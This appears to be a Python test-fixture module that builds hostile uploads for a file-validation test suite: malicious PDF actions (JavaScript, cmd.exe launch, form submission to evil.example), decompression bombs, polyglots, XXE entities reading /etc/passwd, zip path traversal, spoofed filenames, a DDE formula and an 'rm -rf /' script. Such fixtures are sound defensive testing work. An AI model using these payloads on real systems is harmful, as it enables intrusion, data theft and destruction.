"""Hostile files by the hundred, each made when it is asked for: name as sent, and what makes its content."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf

from tests.sheets import OBJECTS, PDF, pdf_of

Make = Callable[[], bytes]
MB = 1024**2
SCRIPT = b"<script>alert(document.domain)</script>"
EVIL = b"(app.alert\\(1\\))"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
ODF = "application/vnd.oasis.opendocument."
MAIN = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet", "pptx": "presentationml.presentation"}
PARTS = {"docx": "word/document.xml", "xlsx": "xl/sharedStrings.xml", "pptx": "ppt/slides/slide1.xml"}
KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}


def sheet(*more: bytes, catalogue: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    first, second, third = OBJECTS
    return pdf_of(first[:-2] + catalogue + b">>", second, third[:-2] + page + b">>", *more, trailer=trailer)


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream " % (head, len(content), content)


def zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MB)) for _ in range(size // MB)) + packer.flush()


def office(ending: str, *entries: tuple[str, bytes | str]) -> bytes:
    """An office file of this kind, with these entries after the one that says so."""
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        warnings.simplefilter("ignore")  # the same name twice is what is meant
        if ending in MAIN:
            made.writestr("[Content_Types].xml", f'<Override ContentType="{OPEN_XML}{MAIN[ending]}.main+xml"/>')
        else:
            made.writestr("mimetype", f"{ODF}{KINDS[ending]}", zipfile.ZIP_STORED)
        for name, content in entries:
            made.writestr(name, content)
    return target.getvalue()


def part_of(ending: str) -> str:
    return PARTS.get(ending, "content.xml")


# PDF: what it would do ------------------------------------------------------------------------------------------------

DOES = {
    "JavaScript": b"/JS" + EVIL,
    "Launch": b"/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>",
    "SubmitForm": b"/F<</FS/URL/F(https://evil.example/)>>",
    "ImportData": b"/F(a.fdf)",
    "GoToR": b"/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]",
    "GoToE": b"/T<</R/C/N(a)>>/D[0/Fit]",
    "Rendition": b"/OP 0/JS" + EVIL,
    "Sound": b"/Sound 3 0 R",
    "Movie": b"/T(a)",
    "RichMediaExecute": b"/CMD<</C(a)>>",
}
PLACES: dict[str, Callable[[bytes], bytes]] = {
    "opening": lambda does: sheet(catalogue=b"/OpenAction" + does),
    "closing": lambda does: sheet(catalogue=b"/AA<</WC%s>>" % does),
    "page": lambda does: sheet(page=b"/AA<</O%s>>" % does),
    "link": lambda does: sheet(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]" % does),
    "second step": lambda does: sheet(catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % does),
}


def doing() -> Iterator[tuple[str, str, Make]]:
    for action, more in DOES.items():
        for place, put in PLACES.items():
            does = b"<</S/%s%s>>" % (action.encode(), more)
            yield f"{action} at {place}", "a.pdf", lambda put=put, does=does: put(does)
    exe = stream(b"MZ" + bytes(200), b"/Type/EmbeddedFile")
    spec = b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>"
    yield "program within", "a.pdf", lambda: sheet(exe, spec, catalogue=names)
    annots = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 9 9]/FS 5 0 R/RichMediaContent 5 0 R>>]"
    for kind in (b"FileAttachment", b"RichMedia", b"Movie", b"Screen", b"3D", b"Sound"):
        yield f"{kind.decode()} on the page", "a.pdf", lambda kind=kind: sheet(exe, spec, page=annots % kind)
    xfa = stream(b"<xdp><script>" + EVIL)
    yield "XFA form", "a.pdf", lambda: sheet(xfa, catalogue=b"/AcroForm<</Fields[]/XFA 4 0 R>>")


# PDF: what it costs ---------------------------------------------------------------------------------------------------


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<<>>>>"
    return pdf_of(OBJECTS[0], b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), *[page] * count)


def _locked(**given: str) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(sheet(catalogue=b"/OpenAction<</S/JavaScript/JS%s>>" % EVIL))) as pdf:
        pdf.save(target, encryption=pikepdf.Encryption(**given))
    return target.getvalue()


def _page_of(*objects: bytes, content: bytes = b"/Contents 4 0 R", resources: bytes = b"") -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<<%s>>%s>>" % (resources, content)
    return pdf_of(OBJECTS[0], OBJECTS[1], page, *objects)


def costly() -> Iterator[tuple[str, str, Make]]:
    flate, twice = b"/Filter/FlateDecode", b"/Filter[/FlateDecode/FlateDecode]"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 4 0 R>>>>"
    made: dict[str, Make] = {
        "a page of a gigabyte": lambda: _page_of(stream(zeros(1024 * MB), flate)),
        "a page packed twice": lambda: _page_of(stream(zlib.compress(zeros(1024 * MB), 9), twice)),
        "a picture of a gigabyte": lambda: _page_of(
            stream(
                zeros(1024 * MB),
                b"/Type/XObject/Subtype/Image/Width 32768/Height 32768/ColorSpace/DeviceGray"
                b"/BitsPerComponent 8" + flate,
            ),
            stream(b"/A Do"),
            content=b"/Contents 5 0 R",
            resources=b"/XObject<</A 4 0 R>>",
        ),
        "data about it of a gigabyte": lambda: sheet(
            stream(zeros(1024 * MB), b"/Type/Metadata/Subtype/XML" + flate), catalogue=b"/Metadata 4 0 R"
        ),
        "a form within itself": lambda: _page_of(
            stream(b"/A Do /A Do", form),
            stream(b"/A Do"),
            content=b"/Contents 5 0 R",
            resources=b"/XObject<</A 4 0 R>>",
        ),
        "pages within themselves": lambda: pdf_of(OBJECTS[0], b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
        "a count of pages that lies": lambda: pdf_of(
            OBJECTS[0], b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", OBJECTS[2]
        ),
        "no pages": lambda: pdf_of(OBJECTS[0], b"<</Type/Pages/Kids[]/Count 0>>"),
        "a page as large as the world": lambda: pdf_of(
            *OBJECTS[:2], b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]/Resources<<>>>>"
        ),
        "10,000 pages": lambda: _pages(10_000),
        "brackets without end": lambda: sheet(b"[" * 200_000 + b"]" * 200_000),
        "dictionaries within each other": lambda: sheet(b"<</A" * 5_000 + b" 1" + b">>" * 5_000, page=b"/X 4 0 R"),
        "a chain of next steps": lambda: sheet(b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", catalogue=b"/OpenAction 4 0 R"),
        "an earlier part that is itself": lambda: PDF.replace(b"/Root", b"/Prev 1/Root"),
        "a length that lies": lambda: _page_of(b"<</Length 999999999>>stream\nx\nendstream "),
        "a length of its own": lambda: _page_of(b"<</Length 4 0 R>>stream\nx\nendstream "),
        "a hundred thousand objects": lambda: sheet(*[b"<</A[1 2 3]/B(x)>>"] * 100_000),
        "filters without end": lambda: _page_of(stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 5_000 + b"]")),
        "a password": lambda: _locked(user="geheim", owner="geheim"),
        "a password of the owner": lambda: _locked(user="", owner="geheim"),
        "random bytes behind the head": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4_000,
        "no end": lambda: b"%PDF-1.7\n" + b"1 0 obj<<" * 50_000,
        "only a head": lambda: b"%PDF-1.7",
        "nothing": lambda: b"",
    }
    yield from ((f"PDF: {name}", "a.pdf", make) for name, make in made.items())
    whole = sheet(stream(b"x" * 500), catalogue=b"/OpenAction<</S/JavaScript/JS%s>>" % EVIL)
    for part in range(1, 10):
        yield f"PDF: cut at {part} tenths", "a.pdf", lambda part=part: whole[: len(whole) * part // 10]


# Two kinds at once ----------------------------------------------------------------------------------------------------


def _around(before: bytes, after: bytes) -> bytes:
    return before + PDF + after


def twofold() -> Iterator[tuple[str, str, Make]]:
    html = b"<!doctype html>" + SCRIPT
    word = office("docx", ("word/document.xml", "<a/>"))
    made: dict[str, tuple[str, Make]] = {
        "page and PDF": ("a.pdf", lambda: _around(html, b"")),
        "PDF and page": ("a.pdf", lambda: _around(b"", html)),
        "script and PDF": ("a.pdf", lambda: _around(b"alert(1);/*", b"*/")),
        "picture and PDF": ("a.pdf", lambda: _around(b"GIF89a/*", b"*/=1;alert(1)")),
        "program and PDF": ("a.pdf", lambda: _around(b"MZ" + bytes(500), b"")),
        "PDF and archive": ("a.pdf", lambda: _around(b"", word)),
        "PDF and office file": ("a.docx", lambda: _around(b"", word)),
        "page and office file": ("a.docx", lambda: html + word),
        "drawing and PDF": ("a.pdf", lambda: _around(b"<svg onload=alert(1)>", b"")),
        "PNG and page": ("a.png", lambda: _png(b"", html)),
        "PNG with a page in it": ("a.png", lambda: _png(_chunk(b"tEXt", b"Comment\0" + html), b"")),
        "JPEG and page": ("a.jpg", lambda: _jpeg(b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html) + html),
        "JPEG and archive": ("a.jpg", lambda: _jpeg(b"") + word),
        "JPEG named PNG": ("a.png", lambda: _jpeg(b"")),
        "PDF named PNG": ("a.png", lambda: PDF),
        "archive named PDF": ("a.pdf", lambda: word),
    }
    yield from ((name, sent, make) for name, (sent, make) in made.items())


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(more: bytes, after: bytes, wide: int = 1) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", wide, wide, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + _chunk(b"IDAT", zlib.compress(b"\0\0")) + _chunk(b"IEND", b"") + after


def _jpeg(more: bytes) -> bytes:
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + more + b"\xff\xda\0\2\0\0\xff\xd9"


def pictures() -> Iterator[tuple[str, str, Make]]:
    made: dict[str, tuple[str, Make]] = {
        "as wide as the world": ("a.png", lambda: _png(b"", b"", 2**31 - 1)),
        "a remark of a gigabyte": ("a.png", lambda: _png(_chunk(b"zTXt", b"A\0\0" + zeros(1024 * MB)), b"")),
        "a length that lies": ("a.png", lambda: _png(b"\x7f\xff\xff\xfftEXt", b"")),
        "a profile of a gigabyte": ("a.png", lambda: _png(_chunk(b"iCCP", b"A\0\0" + zeros(1024 * MB)), b"")),
        "cut": ("a.png", lambda: _png(b"", b"")[:-9]),
        "a million pieces": ("a.png", lambda: _png(_chunk(b"tEXt", b"A\0B") * 200_000, b"")),
        "markers without end": ("a.jpg", lambda: b"\xff\xd8" + b"\xff" * 2_000_000),
        "pieces of no length": ("a.jpg", lambda: b"\xff\xd8" + b"\xff\xe1\0\0" * 100_000),
        "a scan without end": ("a.jpg", lambda: _jpeg(b"")[:-2] + b"\xff\0" * 1_000_000),
        "directions that lead in a circle": ("a.jpg", lambda: _jpeg(_exif(b"II*\0\x08\0\0\0\xff\xff" + bytes(40)))),
        "cut in the middle": ("a.jpeg", lambda: _jpeg(b"")[:9]),
        "only a head": ("a.jpg", lambda: b"\xff\xd8\xff"),
    }
    yield from ((f"picture: {name}", sent, make) for name, (sent, make) in made.items())


def _exif(content: bytes) -> bytes:
    return b"\xff\xe1" + struct.pack(">H", len(content) + 8) + b"Exif\0\0" + content


# Office files ---------------------------------------------------------------------------------------------------------

DTD = "<!DOCTYPE a [%s]>"
XML = {
    "entities that multiply": DTD % ("<!ENTITY a 'ha'>" + "".join(
        f"<!ENTITY {chr(97 + n)} '{f'&{chr(96 + n)};' * 10}'>" for n in range(1, 10))) + "<a>&j;</a>",
    "an entity from the disk": DTD % "<!ENTITY a SYSTEM 'file:///etc/passwd'>" + "<a>&a;</a>",
    "an entity from the network": DTD % "<!ENTITY a SYSTEM 'http://127.0.0.1:9/'>" + "<a>&a;</a>",
    "a grammar from the network": "<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/a.dtd'><a/>",
    "a parameter that fetches": DTD % "<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a;" + "<a/>",
    "tags within each other": "<a>" * 300_000,
    "one long name": f"<{'a' * 5_000_000}/>",
    "no XML": "\x00\x01\x02",
}  # fmt: skip


def _link(archive: zipfile.ZipFile, name: str, to: str) -> None:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    archive.writestr(entry, to)


def _with(ending: str, change: Callable[[zipfile.ZipFile], object]) -> bytes:
    target = io.BytesIO(office(ending, (part_of(ending), "<a>x</a>")))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return target.getvalue()


def _lying(ending: str) -> bytes:
    """Says that its part is small."""
    size = 100 * MB
    content = office(ending, (part_of(ending), b"<a>" + b" " * size))
    return content.replace(struct.pack("<L", size + 3), struct.pack("<L", 30))


def packed() -> Iterator[tuple[str, str, Make]]:
    for ending in ("docx", "xlsx", "odt"):
        for name, xml in XML.items():
            yield (
                f"{ending}: {name}",
                f"a.{ending}",
                lambda ending=ending, xml=xml: office(ending, (part_of(ending), xml)),
            )
        changes: dict[str, Callable[[zipfile.ZipFile], object]] = {
            "a link to the disk": lambda archive: _link(archive, "word/a.xml", "/etc/passwd"),
            "a name that leads out": lambda archive: archive.writestr("../../../../tmp/hostile", SCRIPT),
            "a name from the root": lambda archive: archive.writestr("/tmp/hostile", SCRIPT),
            "a name from another system": lambda archive: archive.writestr("..\\..\\hostile.exe", b"MZ"),
            "an archive within": lambda archive: archive.writestr("a.zip", office("docx", ("a", bytes(9 * MB)))),
            "a program within": lambda archive: archive.writestr("a.exe", b"MZ" + bytes(99)),
            "30,000 entries": lambda archive: [archive.writestr(f"a{number}", b"") for number in range(30_000)],
            "a gigabyte": lambda archive: archive.writestr("a.xml", bytes(450 * MB)),
        }
        for name, change in changes.items():
            yield f"{ending}: {name}", f"a.{ending}", lambda ending=ending, change=change: _with(ending, change)
        yield f"{ending}: a size that lies", f"a.{ending}", lambda ending=ending: _lying(ending)
        yield (
            f"{ending}: its part twice",
            f"a.{ending}",
            lambda ending=ending: office(ending, (part_of(ending), "<a/>"), (part_of(ending), SCRIPT)),
        )
        yield f"{ending}: cut", f"a.{ending}", lambda ending=ending: office(ending, ("a", bytes(99)))[:-30]
        yield (
            f"{ending}: another's name",
            f"a.{'odt' if ending == 'docx' else 'docx'}",
            lambda ending=ending: office(ending, ("a", "b")),
        )
    macros = '<Override ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "docx: macros", "a.docx", lambda: office("docx", ("[Content_Types].xml", macros), ("vbaProject.bin", b"x"))
    yield "an old office file", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)


# Names, and contents under them ---------------------------------------------------------------------------------------

NAMES = (
    "../../../etc/passwd.pdf", "..\\..\\windows\\a.pdf", "/etc/passwd.pdf", "C:\\a.pdf", "a/../../b.pdf", "....//a.pdf",
    "Rechnung\u202efdp.exe", "Rechnung\u202eexe.pdf", "a\u200b\u2066b.pdf", "a.pdf.exe", "a.exe.pdf", "a.php.pdf",
    "a.pdf.html", "a.html.pdf", "a.pdf ", "a.pdf.", ".pdf", "..pdf", "pdf", "", ".", "..", ".htaccess", "CON.pdf",
    "a\0.pdf", "a.pdf\0.exe", "a\r\nSet-Cookie: x=1.pdf", 'a".pdf', "a;filename=b.exe;.pdf",
    "<script>alert(1)</script>.pdf",
    "{{7*7}}.pdf", "$(id).pdf", "`id`.pdf", "'; DROP TABLE documents_file;--.pdf", "%2e%2e%2fa.pdf", "%00.pdf",
    "a" * 300 + ".pdf", "Ä" * 250 + ".pdf", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + ".pdf",
    "\u0000" * 5 + ".pdf", "a.pdf:ads", "a.svg", "a.html", "a.xhtml", "a.xml", "a.mhtml", "a.hta", "a.js", "a.swf",
    "a.lnk", "a.url", "a.iso", "a.zip", "a.docm", "a.jar", "a.PDF.JS", "index.html", "robots.txt",
)  # fmt: skip
CONTENTS = {
    "page": b"<!doctype html>" + SCRIPT,
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "XML": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "stylesheet": b'<?xml-stylesheet href="javascript:alert(1)"?><a/>',
    "program": b"MZ\x90\0" + bytes(200),
    "program of another system": b"\x7fELF" + bytes(200),
    "script": b"#!/bin/sh\nrm -rf /\n",
    "formula": b'=cmd|"/c calc"!A1;@SUM(1+1)\n',
}


def named() -> Iterator[tuple[str, str, Make]]:
    yield from ((f"name {name[:40]!r}", name, lambda: PDF) for name in NAMES)
    for kind, content in CONTENTS.items():
        for ending in ("pdf", "png", "jpg", "docx", "txt", "csv", "html", "svg"):
            yield f"{kind} as {ending}", f"a.{ending}", lambda content=content: content


HOSTILE = [*doing(), *costly(), *twofold(), *pictures(), *packed(), *named()]
